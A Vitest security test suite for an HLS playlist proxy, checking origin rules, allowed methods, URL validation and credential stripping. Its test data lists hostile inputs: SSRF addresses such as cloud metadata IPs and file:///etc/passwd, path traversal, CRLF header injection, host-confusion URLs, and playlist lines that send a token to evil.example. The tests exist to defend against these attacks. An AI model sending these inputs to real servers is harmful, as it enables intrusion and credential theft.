import { describe, expect, it } from 'vitest';
import { APP, codeOf } from '../support.ts';
import {
  ADDRESS,
  BEARER,
  CDN,
  PLAYER,
  playlist,
  playlistHandler,
  through,
  TOKEN,
  vendorOf,
} from './hls-support.ts';

const FILM = playlist('1.ts');

describe('who may ask', () => {
  it.each([
    ['A2: a page of a sibling site', { 'sec-fetch-site': 'same-site' }],
    ['A4: another site', { 'sec-fetch-site': 'cross-site' }],
    ['an address bar', { 'sec-fetch-site': 'none' }],
    ['A5: nobody in particular', { 'sec-fetch-site': 'cross-site', origin: 'null' }],
    [
      'A8: a stranger who says it is at home',
      { 'sec-fetch-site': 'same-origin', origin: 'https://evil.example' },
    ],
  ])('%s may not', async (_who, headers) => {
    const { get, sent } = playlistHandler(new Response(FILM));
    const response = await get(ADDRESS, {}, headers);
    expect([response.status, await codeOf(response)]).toEqual([403, 'origin_not_allowed']);
    expect(response.headers.has('access-control-allow-origin')).toBe(false);
    expect(sent).toEqual([]);
  });

  it('a player outside of any page is left to the decision; a page of the list is answered by CORS', async () => {
    const { get, handle } = playlistHandler(() => new Response(FILM));
    expect((await get(ADDRESS, {}, {})).status).toBe(200);
    const page = { origin: APP, 'sec-fetch-site': 'same-site' };
    expect((await get(ADDRESS, {}, page)).headers.get('access-control-allow-origin')).toBe(APP);
    const preflight = await handle(new Request(ADDRESS, { method: 'OPTIONS', headers: page }));
    expect(preflight.headers.get('access-control-allow-methods')).toBe('GET, HEAD');
  });

  it.each(['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'])(
    'A47: %s is no way to ask',
    async (method) => {
      const { get, sent } = playlistHandler(new Response(FILM));
      const response = await get(ADDRESS, { method });
      expect([response.status, response.headers.get('allow')]).toEqual([405, 'GET, HEAD']);
      expect(sent).toEqual([]);
    },
  );
});

describe('A45: wherever a page wants the server to go, it goes where the pass leads', () => {
  it.each([
    'https://evil.example/films/a.m3u8',
    '//evil.example/a.m3u8',
    'https://cdn.example@evil.example/films/a.m3u8',
    'https://user@cdn.example/films/a.m3u8',
    'https://cdn.example.evil.example/films/a.m3u8',
    'https://cdn.example./films/a.m3u8',
    'http://cdn.example/films/a.m3u8',
    'https://cdn.example:8443/films/a.m3u8',
    'https://cdn.example/filmsx/a.m3u8',
    'https://cdn.example/films/../keys',
    'https://cdn.example/films/%2e%2e/keys',
    'https://cdn.example/films/..%2fkeys',
    'https://cdn.example/films/%5c..%5ckeys',
    'https://cdn.example/films//keys',
    'https://cdn.example/films/a\r\nX-Evil: 1',
    'https://CDN.example/films/a.m3u8',
    'https:\\\\cdn.example\\films\\a',
    'http://127.0.0.1/latest/meta-data',
    'http://[::ffff:127.0.0.1]/',
    'http://169.254.169.254/',
    'file:///etc/passwd',
    'data:application/vnd.apple.mpegurl,%23EXTM3U',
    `https://cdn.example/films/${'a'.repeat(4096)}`,
  ])('%j', async (url) => {
    const { get, sent } = playlistHandler(() => new Response(FILM));
    for (const name of ['manifest', 'playlist'])
      expect((await get(`${ADDRESS}&${name}=${encodeURIComponent(url)}`)).status).toBe(400);
    expect(sent).toEqual([]);
  });

  it('and there it does go (control)', async () => {
    const { get, sent } = playlistHandler(() => new Response(FILM));
    await get(`${ADDRESS}&playlist=${encodeURIComponent('https://cdn.example/films/a.m3u8')}`);
    expect(sent.map(({ url }) => url)).toEqual(['https://cdn.example/films/a.m3u8']);
  });
});

describe('what is asked', () => {
  it.each([
    ['A16', 'asset=../x'],
    ['A16', 'asset=%2e%2e/x'],
    ['A16', 'asset=__proto__'],
    ['A16', `asset=${'a'.repeat(9000)}`],
    ['A16', 'asset=a%00'],
    ['A16', 'asset=a&asset=b'],
    ['A16', 'manifest=x'],
    ['S7', 'asset=a&manifest=%'],
    ['S7', 'asset=a&manifest=x&manifest=y'],
    ['S7', 'asset=a&manifest=x&playlist=y'],
    ['S7', ''],
  ])('%s: %s is answered 400, and nothing is asked for', async (_id, query) => {
    const { get, sent } = playlistHandler(new Response(FILM));
    expect((await get(`${APP}/api/hls?${query}`)).status).toBe(400);
    expect(sent).toEqual([]);
  });
});

describe('what passes', () => {
  it('A46: no header of the player goes to the media server', async () => {
    const { get, sent } = playlistHandler(new Response(FILM));
    await get(ADDRESS, {}, { ...PLAYER, authorization: 'Bearer of-the-page', 'x-api-key': '1' });
    expect([...(sent[0]?.headers.keys() ?? [])].sort()).toEqual(['accept', 'authorization']);
    expect(sent[0]?.headers.get('authorization')).toBe(BEARER);
  });

  it('A46, A53: the server’s credential reaches no browser, and the viewer’s no stranger', async () => {
    const lines = [
      '#EXT-X-KEY:METHOD=AES-128,URI="https://evil.example/k?x="',
      '#EXT-X-DEFINE:QUERYPARAM="token"',
      'https://evil.example/{$token}',
      '//evil.example/1.ts',
      'https://cdn.example@evil.example/films/1.ts',
      '1.ts',
    ];
    const { get } = playlistHandler(() => new Response(playlist(...lines)));
    const url = `${CDN}a.m3u8?token=of-the-address`;
    const response = await get(`${ADDRESS}&playlist=${encodeURIComponent(url)}`);
    const text = await response.text();
    expect(text + JSON.stringify([...response.headers])).not.toContain(BEARER.slice(7));
    const carrying = text.split('\n').filter((line) => line.includes(TOKEN));
    expect(carrying).toEqual([`${CDN}1.ts?token=${TOKEN}`]);
  });

  it('A46: a credential that the media server repeats is in no address of a playlist below', async () => {
    const rules = [
      { match: { urls: [CDN] }, place: [{ kind: 'query', params: { token: TOKEN } }] },
    ] as const;
    const lines = ['#EXT-X-STREAM-INF:BANDWIDTH=1', `low.m3u8?a=1&token=${TOKEN}`];
    const { get } = playlistHandler(new Response(playlist(...lines)), { vendor: vendorOf(rules) });
    expect(await (await get()).text()).toBe(
      playlist('#EXT-X-STREAM-INF:BANDWIDTH=1', through(`${CDN}low.m3u8?a=1`)),
    );
  });

  it('A48, A85: errors say nothing of what was sent or answered', async () => {
    const { get, events } = playlistHandler(({ headers }) => {
      throw Object.assign(new TypeError(`failed: ${headers.get('authorization')}`), {
        cause: Object.assign(new Error(BEARER), { code: 'ECONNRESET' }),
      });
    });
    const response = await get();
    expect(response.status).toBe(502);
    expect(await response.text()).not.toContain('canary');
    const [event] = events;
    expect(event?.error).toMatchObject({ code: 'vendor_connection', reason: 'ECONNRESET' });
    expect(Object(event?.error).cause).toBeUndefined();
    expect(String(Object(event?.error).stack)).not.toContain('canary');
  });
});
